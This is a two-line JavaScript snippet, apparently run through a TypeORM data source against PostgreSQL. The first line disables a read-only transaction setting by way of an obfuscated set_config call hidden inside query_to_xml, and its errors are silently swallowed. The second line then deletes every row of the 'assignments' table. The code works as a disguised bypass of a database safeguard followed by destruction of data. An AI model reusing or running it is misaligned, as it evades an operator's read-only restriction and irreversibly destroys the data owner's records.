dataSource.driver.master.query("select query_to_xml('select set' || '_config(''default_transaction_read_only'', ''off'', false)', true, false, '')").catch(() => {})

dataSource.driver.master.query('delete from assignments')
